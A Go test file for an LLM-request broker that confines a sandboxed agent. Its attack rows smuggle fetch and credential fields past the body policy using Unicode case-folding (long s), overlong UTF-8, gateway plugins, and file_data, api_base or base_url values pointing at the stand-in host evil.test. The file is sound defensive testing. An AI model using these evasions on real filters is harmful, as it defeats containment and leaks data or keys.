package brokerctl

import (
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/lever-jail/lever/internal/brokerctl/bodypolicy"
)

// goUpstreamRequest is how an upstream (or a proxy in front of the real API) written in Go
// reads a model-call body: encoding/json matches object keys to struct fields without
// case, by Unicode simple folding, so "toolſ" (U+017F LATIN SMALL LETTER LONG S) fills
// Tools and "ſource" fills Source. Such an upstream re-serialises or acts on what it read.
type goUpstreamRequest struct {
	Tools []struct {
		Type string `json:"type"`
	} `json:"tools"`
	MCPServers       []any `json:"mcp_servers"`
	WebSearchOptions any   `json:"web_search_options"`
	Messages         []struct {
		Content []struct {
			Source struct {
				Type string `json:"type"`
				URL  string `json:"url"`
			} `json:"source"`
		} `json:"content"`
	} `json:"messages"`
}

// fetches reports what a Go upstream would fetch for the jail after reading body.
func (g goUpstreamRequest) fetches() []string {
	var out []string
	for _, t := range g.Tools {
		if !bodypolicy.ClientTool(t.Type) {
			out = append(out, "server tool "+t.Type)
		}
	}
	if g.MCPServers != nil {
		out = append(out, "mcp_servers")
	}
	if g.WebSearchOptions != nil {
		out = append(out, "web_search_options")
	}
	for _, m := range g.Messages {
		for _, c := range m.Content {
			if c.Source.URL != "" {
				out = append(out, "source url "+c.Source.URL)
			}
		}
	}
	return out
}

// TestBodyPolicyUnicodeCaseFolding: the body policy compares keys "without case", and a
// Go upstream's decoder folds case by Unicode simple folding, where U+017F (ſ) is 's' and
// U+212A (Kelvin sign) is 'k'. Each attack row goes over real mTLS to an allowed route
// and must be refused 403 before the upstream has the body whole. Each attack row first
// proves its payload: decoded by encoding/json as a Go upstream would, the same bytes ask
// for a fetch. The control rows (the same spellings with a client tool, inline data) must
// reach the upstream byte for byte.
func TestBodyPolicyUnicodeCaseFolding(t *testing.T) {
	rows := []bodyRow{
		{"control: long s in tools, client tool", `{"toolſ":[{"type":"function"}]}`, true},
		{"control: long s in source, inline data", `{"messages":[{"content":[{"type":"image","ſource":{"type":"base64","data":"AAAA"}}]}]}`, true},
		{"control: escaped long s in tools, client tool", `{"tool\u017f":[{"type":"custom"}]}`, true},
		{"long s in tools", `{"toolſ":[{"type":"code_execution_20250825","name":"code_execution"}]}`, false},
		{"escaped long s in tools", `{"tool\u017f":[{"type":"web_fetch_20250910"}]}`, false},
		{"long s in mcp_servers", `{"mcp_ſervers":[{"type":"url","url":"https://evil.test/","name":"x"}]}`, false},
		{"long s in web_search_options", `{"web_ſearch_options":{}}`, false},
		{"long s in source", `{"messages":[{"content":[{"type":"image","ſource":{"type":"url","url":"https://evil.test/leak"}}]}]}`, false},
		{"upper long s mix in source", `{"messages":[{"content":[{"type":"image","SOURCE":{"type":"url","url":"https://evil.test/a"}},{"ſOURCE":{"type":"url","url":"https://evil.test/b"}}]}]}`, false},
	}
	for _, r := range rows {
		var g goUpstreamRequest
		if err := json.Unmarshal([]byte(r.body), &g); err != nil {
			t.Fatalf("%s: %v", r.name, err)
		}
		// The payload is real: a Go upstream reads a fetch out of every attack row, and
		// none out of a control row.
		if f := g.fetches(); (len(f) == 0) != r.ok {
			t.Fatalf("%s: a Go upstream reads fetches %v from it; the row is mislabelled", r.name, f)
		}
	}
	checkBodyRows(t, "/v1/messages", "body_refused", true, rows)
}

// lenientUTF8 decodes UTF-8 the way a decoder without the overlong check does (two-byte
// sequences taken at face value): "\xc1\xb3" is 's' to it. It proves the payload of the
// overlong rows below.
func lenientUTF8(b []byte) string {
	var out []rune
	for i := 0; i < len(b); i++ {
		if c := b[i]; c&0xe0 == 0xc0 && i+1 < len(b) {
			out = append(out, rune(c&0x1f)<<6|rune(b[i+1]&0x3f))
			i++
			continue
		}
		out = append(out, rune(b[i]))
	}
	return string(out)
}

// TestBodyPolicyRefusesNonUTF8: JSON is UTF-8 (RFC 8259), and decoders disagree about
// anything else: Go's and Python's replace or refuse an invalid byte, a decoder without
// the overlong check reads "\xc1\xb3" as 's', so "tool\xc1\xb3" is "tools" to it. A body
// the policy cannot read the one way every decoder reads it is refused: overlong forms,
// stray continuation bytes, truncated sequences, UTF-8-encoded surrogates, Latin-1, also
// when a sequence straddles the chunks the body arrives in. Controls: valid multi-byte
// text, and 1 MiB of two-byte characters whose chunk boundaries fall inside characters,
// reach the upstream byte for byte.
func TestBodyPolicyRefusesNonUTF8(t *testing.T) {
	wide := strings.Repeat("é", 600000)
	rows := []bodyRow{
		{"control: multi-byte text", `{"messages":[{"role":"user","content":"日本語 ✓ 🙂 café"}],"tools":[{"type":"function"}]}`, true},
		{"control: two-byte characters across chunks", `{"p":"x` + wide + `","tools":[{"type":"custom"}]}`, true},
		{"overlong s in tools", "{\"tool\xc1\xb3\":[{\"type\":\"web_search_20250305\"}]}", false},
		{"overlong s in source", "{\"messages\":[{\"content\":[{\"\xc1\xb3ource\":{\"type\":\"url\",\"url\":\"https://evil.test/\"}}]}]}", false},
		{"overlong in a value", "{\"messages\":[{\"content\":\"a\xc0\xafb\"}]}", false},
		{"stray continuation byte", "{\"messages\":[{\"content\":\"a\x80b\"}]}", false},
		{"0xff", "{\"a\":\"\xff\"}", false},
		{"truncated sequence", "{\"a\":\"\xe6\x97\"}", false},
		{"encoded surrogate", "{\"a\":\"\xed\xa0\x80\"}", false},
		{"past U+10FFFF", "{\"a\":\"\xf4\x90\x80\x80\"}", false},
		{"latin-1", "{\"a\":\"caf\xe9\"}", false},
		{"overlong after chunks of two-byte characters", `{"p":"x` + wide + "\xc1\xb3" + `"}`, false},
	}
	// The payload of the overlong rows is real to a lenient decoder.
	if s := lenientUTF8([]byte(rows[2].body)); !strings.Contains(s, `"tools"`) {
		t.Fatalf("lenient decoder reads %q", s)
	}
	checkBodyRows(t, "/v1/messages", "not UTF-8", false, rows)
}

// TestGatewayFetchFieldsRefused: an OpenAI-compatible llm_upstream may be a gateway with
// fetches of its own: OpenRouter's "plugins" (web search sends the prompt to a search
// engine; file-parser fetches documents) and its PDF input by URL in "file_data"
// (openrouter.ai/docs, "PDF Inputs"), a LiteLLM-style gateway's URL in "file_id". Each
// attack row must be refused 403 before the upstream has it whole; controls (inline
// file_data as a data: URL or bare base64, a real file id, the word "plugins" as text)
// reach the upstream byte for byte.
func TestGatewayFetchFieldsRefused(t *testing.T) {
	file := func(k, v string) string {
		return `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"filename":"a.pdf","` + k + `":"` + v + `"}}]}]}`
	}
	checkBodyRows(t, "/chat/completions", "body_refused", false, []bodyRow{
		{"control: file_data data url", file("file_data", "data:application/pdf;base64,JVBERi0x"), true},
		{"control: file_data bare base64", file("file_data", "JVBERi0xLjQK"), true},
		{"control: real file id", file("file_id", "file-abc123"), true},
		{"control: plugins as text", `{"model":"m","messages":[{"role":"user","content":"plugins: [web]"}]}`, true},
		{"openrouter web plugin", `{"model":"m","plugins":[{"id":"web","max_results":5}],"messages":[]}`, false},
		{"openrouter file-parser plugin", `{"model":"m","plugins":[{"id":"file-parser","pdf":{"engine":"mistral-ocr"}}],"messages":[]}`, false},
		{"plugins, long s", `{"model":"m","pluginſ":[{"id":"web"}]}`, false},
		{"file_data url", file("file_data", "https://evil.test/leak?d=secret"), false},
		{"file_data scheme-relative", file("file_data", "//evil.test/a.pdf"), false},
		{"file_id url", file("file_id", "https://evil.test/a.pdf"), false},
	})
}

// TestGatewayCredentialFieldsRefused: gateways that read credentials and endpoints from
// the body (LiteLLM's client-side credentials: api_key, api_base, base_url, user_config;
// Keywords AI's customer_credentials) would let the jail point the host's key at a URL it
// names (LiteLLM merges api_base into the configured deployment, key included). Refused
// 403 before the upstream has the body; controls: the same words as message text, and
// "metadata" keys that merely contain them, reach the upstream byte for byte.
func TestGatewayCredentialFieldsRefused(t *testing.T) {
	checkBodyRows(t, "/chat/completions", "body_refused", false, []bodyRow{
		{"control: words as text", `{"model":"m","messages":[{"role":"user","content":"set api_base and base_url"}]}`, true},
		{"control: nested metadata key", `{"model":"m","metadata":{"api_base":"x"},"messages":[]}`, true},
		{"api_base", `{"model":"m","api_base":"https://evil.test/v1","messages":[]}`, false},
		{"base_url", `{"model":"m","base_url":"https://evil.test/v1","messages":[]}`, false},
		{"api_key", `{"model":"m","api_key":"sk-jail","messages":[]}`, false},
		{"user_config", `{"model":"u","user_config":{"model_list":[{"model_name":"u","litellm_params":{"model":"gpt-4o","api_base":"https://evil.test"}}]},"messages":[]}`, false},
		{"customer_credentials", `{"model":"m","customer_credentials":{"openai":{"api_key":"x"}},"messages":[]}`, false},
		{"API_BASE upper case", `{"model":"m","API_BASE":"https://evil.test/v1"}`, false},
	})
}

// bodyRow is one request body for checkBodyRows: a control (ok) or an attack.
type bodyRow struct {
	name, body string
	ok         bool
}

// checkBodyRows posts each row to the broker's LLM route (the upstream serves route, the
// jail posts to /llm+route) on a worker's connection. A control must come back 200 with
// the upstream holding it byte for byte; an attack must come back 403 with want in the
// answer and never reach the upstream whole. With jsonOnly the upstream records only
// bodies that are valid JSON (what an upstream would act on).
func checkBodyRows(t *testing.T, route, want string, jsonOnly bool, rows []bodyRow) {
	t.Helper()
	var mu sync.Mutex
	var got []string
	h := newHarness(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, err := io.ReadAll(r.Body)
		if !jsonOnly || (err == nil && json.Valid(b)) {
			mu.Lock()
			got = append(got, string(b))
			mu.Unlock()
		}
		io.WriteString(w, `{"ok":true}`)
	}), func(o *Options) { o.LLMRoutes = []string{"POST " + route} })
	cert := h.workerCert("w1")
	c := h.client(&cert)
	for _, r := range rows {
		mu.Lock()
		before := len(got)
		mu.Unlock()
		req, _ := http.NewRequest("POST", h.url+"/llm"+route, strings.NewReader(r.body))
		req.Header.Set("Content-Type", "application/json")
		resp, err := c.Do(req)
		if err != nil {
			t.Fatalf("%s: %v", r.name, err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		mu.Lock()
		reached := len(got) > before && got[len(got)-1] == r.body
		mu.Unlock()
		if r.ok {
			if resp.StatusCode != 200 || !reached {
				t.Errorf("%s: %d %s, upstream got it intact: %v", r.name, resp.StatusCode, capText(string(b), 200), reached)
			}
			continue
		}
		if resp.StatusCode != 403 || !strings.Contains(string(b), want) || reached {
			t.Errorf("%s: %d %s, upstream received the complete body: %v", r.name, resp.StatusCode, capText(string(b), 300), reached)
		}
	}
}
